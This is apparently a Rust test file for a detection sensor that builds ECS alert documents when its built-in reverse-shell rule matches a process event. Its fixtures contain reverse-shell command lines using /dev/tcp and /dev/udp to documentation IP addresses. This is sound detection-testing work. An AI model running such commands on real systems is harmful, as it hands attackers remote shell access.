//! The alert document (design.md §7, src/alert.rs): the event's own fields untouched, every alert
//! field present with its ECS type, whether the input nests its objects or uses dotted keys.

use std::path::PathBuf;
use std::sync::Arc;

use serde_json::{json, Map, Value};

use execsentry::alert::{AlertBuilder, VERSION};
use execsentry::document::lookup;
use execsentry::eql::Options;
use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
use execsentry::rules::builtin::REVERSE_SHELL_RULE_ID;
use execsentry::rules::load::load_source;
use execsentry::rules::{load_builtin, Origin, Outcome, Rule, RuleSet};
use execsentry::{Document, JsonDocument};

const DETECTED_NS: i64 = 1_795_848_213_123_000_000; // 2026-11-28T06:43:33.123Z

fn seed() -> RuleSet {
    let (set, rest) = RuleSet::from_reports(load_builtin(&Options::default()));
    assert!(rest.is_empty(), "{rest:?}");
    set
}

fn json_doc(v: &Value) -> JsonDocument {
    JsonDocument::new(v.as_object().unwrap().clone())
}

fn nested() -> Value {
    json!({
        "@timestamp": "2026-11-27T09:14:02.117Z",
        "agent": {"type": "endpoint", "id": "agent-1"},
        "event": {"id": "MpLZ1nkBzF7dYnIrAAAB", "kind": "event", "category": ["process"],
                  "type": ["start"], "action": "exec"},
        "host": {"name": "web-01", "os": {"type": "linux"}},
        "process": {"pid": 48211, "name": "bash", "executable": "/usr/bin/bash",
                    "args": ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
                    "command_line": "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                    "parent": {"name": "php-fpm8.2", "pid": 48190}},
        "user": {"name": "www-data", "id": "33"},
        "labels": {"env": "prod"}
    })
}

fn dotted() -> Value {
    json!({
        "@timestamp": "2026-11-27T10:05:09.733Z",
        "event.id": "flat-0013", "event.kind": "event", "event.category": ["process"],
        "event.type": "start",
        "host.name": "db-02",
        "process.name": "sh",
        "process.args": ["sh", "-c", "sh -i >& /dev/udp/203.0.113.9/53 0>&1"],
        "user.name": "postgres",
        "rule.name": "collector's own rule field"
    })
}

/// Every leaf (non-object value) of `v` with its path as a list of keys.
fn leaves(v: &Map<String, Value>, prefix: &mut Vec<String>, out: &mut Vec<(Vec<String>, Value)>) {
    for (k, x) in v {
        prefix.push(k.clone());
        match x {
            Value::Object(inner) => leaves(inner, prefix, out),
            other => out.push((prefix.clone(), other.clone())),
        }
        prefix.pop();
    }
}

fn at<'a>(v: &'a Map<String, Value>, keys: &[String]) -> Option<&'a Value> {
    let (last, init) = keys.split_last()?;
    let mut cur = v;
    for k in init {
        cur = cur.get(k)?.as_object()?;
    }
    cur.get(last)
}

fn field<'a>(alert: &'a Map<String, Value>, path: &str) -> &'a Value {
    lookup(alert, path).unwrap_or_else(|| panic!("alert has no {path}: {alert:?}"))
}

fn strings(v: &Value) -> Vec<&str> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|x| x.as_str().expect("string element"))
        .collect()
}

/// Checks the fields every alert of the seed rule has.
fn check_seed_alert(input: &Value, alert: &Map<String, Value>) {
    // Fields the alert sets (or may replace) on the event.
    let set_by_alert = [
        "event.kind",
        "event.severity",
        "event.risk_score",
        "event.created",
        "rule.",
        "threat.",
        "message",
        "observer.",
        "agent.name",
        "agent.type",
        "agent.version",
        "execsentry.",
    ];
    let mut original = Vec::new();
    leaves(input.as_object().unwrap(), &mut Vec::new(), &mut original);
    for (keys, value) in &original {
        let dotted = keys.join(".");
        if set_by_alert
            .iter()
            .any(|p| dotted == *p || (p.ends_with('.') && dotted.starts_with(p)))
        {
            continue;
        }
        assert_eq!(at(alert, keys), Some(value), "{dotted} changed");
    }

    assert_eq!(field(alert, "event.kind"), "alert");
    assert_eq!(field(alert, "event.severity"), 73);
    assert_eq!(field(alert, "event.risk_score").as_f64(), Some(73.0));
    assert_eq!(field(alert, "event.created"), "2026-11-28T06:43:33.123Z");
    assert_eq!(field(alert, "rule.id"), REVERSE_SHELL_RULE_ID);
    assert_eq!(field(alert, "rule.uuid"), REVERSE_SHELL_RULE_ID);
    assert_eq!(
        field(alert, "rule.name"),
        "Potential Reverse Shell Activity via Terminal"
    );
    assert!(field(alert, "rule.description")
        .as_str()
        .unwrap()
        .starts_with("Identifies the execution of a shell process"));
    assert_eq!(field(alert, "rule.version"), "1");
    assert_eq!(field(alert, "rule.license"), "Elastic License v2");
    assert_eq!(strings(field(alert, "rule.author")), ["Elastic"]);
    let refs = strings(field(alert, "rule.reference"));
    assert_eq!(refs.len(), 4);
    assert!(refs.iter().all(|r| r.starts_with("https://")));
    assert_eq!(field(alert, "rule.ruleset"), "builtin");
    assert_eq!(field(alert, "rule.category"), "process");
    assert_eq!(field(alert, "threat.framework"), "MITRE ATT&CK");
    assert_eq!(
        strings(field(alert, "threat.tactic.id")),
        ["TA0002", "TA0011"]
    );
    assert_eq!(
        strings(field(alert, "threat.tactic.name")),
        ["Execution", "Command and Control"]
    );
    assert_eq!(
        strings(field(alert, "threat.tactic.reference")),
        [
            "https://attack.mitre.org/tactics/TA0002/",
            "https://attack.mitre.org/tactics/TA0011/"
        ]
    );
    assert_eq!(
        strings(field(alert, "threat.technique.id")),
        ["T1059", "T1095"]
    );
    assert_eq!(
        strings(field(alert, "threat.technique.name")),
        [
            "Command and Scripting Interpreter",
            "Non-Application Layer Protocol"
        ]
    );
    assert_eq!(strings(field(alert, "threat.technique.reference")).len(), 2);
    assert!(lookup(alert, "threat.technique.subtechnique.id").is_none());
    let message = field(alert, "message").as_str().unwrap();
    assert!(
        message.starts_with("Potential Reverse Shell Activity via Terminal: process "),
        "{message}"
    );
    for (path, want) in [
        ("observer.name", "execsentry"),
        ("observer.product", "execsentry"),
        ("observer.vendor", "execsentry"),
        ("observer.type", "sensor"),
        ("observer.version", VERSION),
    ] {
        assert_eq!(field(alert, path), want, "{path}");
    }
    let id = field(alert, "execsentry.alert.id").as_str().unwrap();
    assert_eq!(id.len(), 36);
    assert_eq!(&id[14..15], "4");
}

fn build(rule: &Rule, doc: &dyn DocumentObject) -> Map<String, Value> {
    let mut builder = AlertBuilder::with_agent_name("sensor-1");
    doc.build(&mut builder, rule)
}

/// `AlertBuilder::build` is generic; this lets one helper take either document kind.
trait DocumentObject {
    fn build(&self, b: &mut AlertBuilder, rule: &Rule) -> Map<String, Value>;
}

impl<D: Document> DocumentObject for D {
    fn build(&self, b: &mut AlertBuilder, rule: &Rule) -> Map<String, Value> {
        b.build(rule, self, DETECTED_NS)
    }
}

#[test]
fn nested_input() {
    let set = seed();
    let input = nested();
    let alert = build(&set.rules()[0], &json_doc(&input));
    check_seed_alert(&input, &alert);
    // Set inside the document's own objects, next to what was there.
    assert_eq!(alert["event"]["kind"], "alert");
    assert_eq!(alert["event"]["id"], "MpLZ1nkBzF7dYnIrAAAB");
    assert_eq!(
        alert["agent"],
        json!({"type": "endpoint", "id": "agent-1"}),
        "the collector's agent is kept whole"
    );
    assert_eq!(alert["labels"]["env"], "prod");
    assert_eq!(
        alert["message"],
        "Potential Reverse Shell Activity via Terminal: process bash ran \
         \"bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\" as user www-data on host web-01."
    );
}

#[test]
fn dotted_input() {
    let set = seed();
    let input = dotted();
    let alert = build(&set.rules()[0], &json_doc(&input));
    check_seed_alert(&input, &alert);
    // Dotted keys are replaced in place; no parallel nested object appears.
    assert_eq!(alert["event.kind"], "alert");
    assert_eq!(alert["event.id"], "flat-0013");
    assert!(alert.get("event").is_some_and(|e| e.get("kind").is_none()));
    assert_eq!(alert["event.type"], "start");
    assert_eq!(
        alert["message"],
        "Potential Reverse Shell Activity via Terminal: process sh ran \
         \"sh -c sh -i >& /dev/udp/203.0.113.9/53 0>&1\" as user postgres on host db-02."
    );
}

#[test]
fn process_event_input() {
    let set = seed();
    let mut p = ProcessInfo {
        pid: 7,
        ppid: 1,
        executable: "/usr/bin/bash".into(),
        args: vec![
            "bash".into(),
            "-c".into(),
            "cat </dev/tcp/192.0.2.1/80".into(),
        ],
        ids: Arc::new(Ids {
            user_id: "0".into(),
            user_name: Some("root".into()),
            ..Default::default()
        }),
        ..Default::default()
    };
    p.derive_names();
    let ev = ProcessEvent {
        timestamp_ns: DETECTED_NS - 1_000_000_000,
        sequence: 9,
        action: Action::Exec,
        process: Arc::new(p),
        parent: None,
        host: Arc::new(HostInfo {
            name: "h1".into(),
            hostname: "h1".into(),
            os_type: "linux".into(),
            ..Default::default()
        }),
        source: SourceFacts::None,
    };
    let alert = build(&set.rules()[0], &ev);
    check_seed_alert(&ev.to_json(), &alert);
    assert_eq!(alert["process"]["name"], "bash");
    assert_eq!(alert["@timestamp"], "2026-11-28T06:43:32.123Z");
    assert_eq!(
        alert["message"],
        "Potential Reverse Shell Activity via Terminal: process bash ran \
         \"bash -c cat </dev/tcp/192.0.2.1/80\" as user root on host h1."
    );
    // The sensor's own events have no collector: the sensor is their agent.
    assert_eq!(
        alert["agent"],
        json!({"name": "sensor-1", "type": "execsentry", "version": VERSION})
    );
}

#[test]
fn optional_rule_fields() {
    let src = r#"
[rule]
rule_id = "0000-test"
name = "Test rule"
description = "d"
severity = "critical"
risk_score = 90
type = "eql"
language = "eql"
version = 7
query = 'any where true'

[[rule.threat]]
framework = "MITRE ATT&CK"
[rule.threat.tactic]
id = "TA0002"
name = "Execution"
reference = "https://attack.mitre.org/tactics/TA0002/"
[[rule.threat.technique]]
id = "T1059"
name = "Command and Scripting Interpreter"
reference = "https://attack.mitre.org/techniques/T1059/"
[[rule.threat.technique.subtechnique]]
id = "T1059.004"
name = "Unix Shell"
reference = "https://attack.mitre.org/techniques/T1059/004/"

[[rule.threat]]
framework = "MITRE ATT&CK"
[rule.threat.tactic]
id = "TA0002"
name = "Execution"
reference = "https://attack.mitre.org/tactics/TA0002/"
"#;
    let origin = Origin::File {
        path: PathBuf::from("/rules/x/test.toml"),
        root: PathBuf::from("/rules"),
    };
    let report = load_source(origin, src, &Options::default());
    let Outcome::Ok(rule) = report.outcome else {
        panic!("{:?}", report.outcome);
    };
    let set = RuleSet::new(vec![*rule]);
    let input = json!({"event": {"id": "x"}});
    let alert = build(&set.rules()[0], &json_doc(&input));
    assert_eq!(field(&alert, "event.severity"), 99);
    assert_eq!(field(&alert, "event.risk_score").as_f64(), Some(90.0));
    assert_eq!(field(&alert, "rule.version"), "7");
    assert_eq!(field(&alert, "rule.ruleset"), "/rules");
    assert!(lookup(&alert, "rule.license").is_none());
    assert!(lookup(&alert, "rule.category").is_none(), "any where");
    assert_eq!(strings(field(&alert, "rule.author")), Vec::<&str>::new());
    assert_eq!(strings(field(&alert, "threat.tactic.id")), ["TA0002"]);
    assert_eq!(
        strings(field(&alert, "threat.technique.subtechnique.id")),
        ["T1059.004"]
    );
    assert_eq!(
        strings(field(&alert, "threat.technique.subtechnique.name")),
        ["Unix Shell"]
    );
    assert_eq!(field(&alert, "message"), "Test rule.");
    assert_eq!(field(&alert, "event.id"), "x");
}

#[test]
fn ndjson_line_and_unique_ids() {
    let set = seed();
    let doc = json_doc(&nested());
    let mut builder = AlertBuilder::with_agent_name("sensor-1");
    let mut buf = Vec::new();
    let mut ids = std::collections::HashSet::new();
    for _ in 0..100 {
        builder
            .write_ndjson(&set.rules()[0], &doc, DETECTED_NS, &mut buf)
            .unwrap();
        assert_eq!(buf.iter().filter(|&&b| b == b'\n').count(), 1);
        assert_eq!(buf.last(), Some(&b'\n'));
        let v: Value = serde_json::from_slice(&buf).unwrap();
        assert!(ids.insert(v["execsentry"]["alert"]["id"].as_str().unwrap().to_owned()));
    }
}
